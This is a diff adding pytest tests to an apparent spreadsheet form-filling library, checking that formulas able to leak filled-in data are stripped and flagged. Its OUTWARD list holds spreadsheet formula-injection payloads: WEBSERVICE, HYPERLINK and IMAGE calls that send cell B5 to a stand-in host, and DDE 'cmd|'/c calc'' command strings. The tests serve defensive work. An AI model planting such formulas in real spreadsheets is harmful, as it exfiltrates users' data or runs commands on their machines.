@@ -105,3 +105,48 @@ def test_entities_of_a_template_are_not_followed() -> None:
             new.writestr(name, part)
     filled = write(out.getvalue(), FillPlan((SheetPlan("表", cells=(CellWrite(5, 2, "甲"),)),))).data
     assert b"root:" not in zipfile.ZipFile(io.BytesIO(filled)).read("xl/worksheets/sheet1.xml")
+
+
+OUTWARD = (
+    '=WEBSERVICE("http://x/?"&B5)',
+    '=IF(1,_xlfn.WEBSERVICE("http://x/?"&B5),0)',
+    '=HYPERLINK("http://x/?"&B5,"点击")',
+    "=cmd|'/c calc'!A0",
+    "='cmd'|'/c calc'!A0",
+    '=_xlfn.IMAGE("http://x/"&B5)',
+    '=RTD("x","",B5)',
+)
+INWARD = (
+    "=SUM(A1:A9)",
+    '=HYPERLINK("#表!A1","目录")',
+    '=IF(A1="WEBSERVICE(|!)","a","b")',
+    "=MYWEBSERVICE(A1)",
+    "=[1]表!A1",
+    '="a|b!c"&A1',
+)
+
+
+def with_formula(formula: str) -> bytes:
+    book = opened(elders())
+    book["表"]["H1"] = formula
+    return saved(book)
+
+
+def keeps_formula(way: Way, formula: str) -> bool:
+    return opened(way(with_formula(formula), "张三"))["表"]["H1"].data_type == "f"
+
+
+@pytest.mark.parametrize("formula", OUTWARD)
+def test_a_form_cannot_send_out_what_is_filled_into_it(formula: str) -> None:
+    assert not keeps_formula(ours, formula)
+    done = write(with_formula(formula), FillPlan((SheetPlan("表", cells=(CellWrite(5, 2, "张三"),)),)))
+    assert [(each.code, each.place.cell) for each in done.problems] == [("FILLING_LEADS_OUT", "H1")]
+
+
+@pytest.mark.parametrize("formula", INWARD)
+def test_formulas_that_stay_in_the_form_stay(formula: str) -> None:
+    assert keeps_formula(ours, formula)
+
+
+def test_the_check_for_outward_formulas_notices_a_writer_that_keeps_them() -> None:
+    assert all(keeps_formula(naive, formula) for formula in OUTWARD)
